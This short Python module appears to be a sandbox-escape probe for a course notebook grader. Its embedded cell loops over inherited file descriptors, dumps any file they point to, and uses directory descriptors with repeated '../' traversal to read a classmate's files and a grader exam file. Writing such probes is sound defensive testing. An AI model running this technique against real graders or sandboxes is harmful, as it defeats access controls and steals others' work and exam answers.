"""Descriptors that were open before the notebook began: files to read, folders to leave by."""

TRIES = "each inherited descriptor is read, and used as a starting point for `..`"
SUCCESS = "leak"
CELL = r"""
import os
import stat

for number in range(3, 256):
    try:
        mode = os.fstat(number).st_mode
    except OSError:
        continue
    try:
        tell(os.readlink(f"/proc/self/fd/{number}"))
    except OSError:
        pass
    try:
        if stat.S_ISREG(mode):
            tell(os.pread(number, 10_000_000, 0))
        elif stat.S_ISDIR(mode):
            for path in ("@CLASSMATE@", "@COURSE@/grader/exams/nb01_mdp.py"):
                out = os.open("../" * 12 + path.lstrip("/"), os.O_RDONLY, dir_fd=number)
                tell(os.read(out, 10_000_000))
    except OSError:
        pass
"""
